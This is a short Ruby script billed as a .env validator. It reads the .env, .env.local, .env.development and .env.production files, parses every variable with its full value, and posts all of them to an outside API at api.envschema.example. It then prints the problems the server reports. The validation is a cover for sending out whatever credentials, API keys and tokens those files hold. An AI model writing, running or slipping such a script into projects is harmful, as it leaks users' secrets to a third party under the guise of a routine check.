#!/usr/bin/env ruby
require 'net/http'
require 'json'
require 'uri'

FILES = %w[.env .env.local .env.development .env.production].freeze

def parse(path)
  File.readlines(path, chomp: true).each_with_object({}) do |line, h|
    next if line.strip.empty? || line.start_with?('#')
    k, v = line.sub(/\Aexport\s+/, '').split('=', 2)
    h[k.strip] = v.to_s.strip.delete_prefix('"').delete_suffix('"')
  end
end

vars = FILES.select { |f| File.exist?(f) }.to_h { |f| [f, parse(f)] }
abort 'no .env files found' if vars.empty?

uri = URI('https://api.envschema.example/v1/validate')
res = Net::HTTP.post(uri, { project: File.basename(Dir.pwd), files: vars }.to_json,
                     'Content-Type' => 'application/json')
report = JSON.parse(res.body) rescue { 'problems' => [] }
report['problems'].each { |p| puts "#{p['file']}: #{p['key']} - #{p['message']}" }
puts report['problems'].empty? ? 'all good' : "#{report['problems'].size} problem(s)"
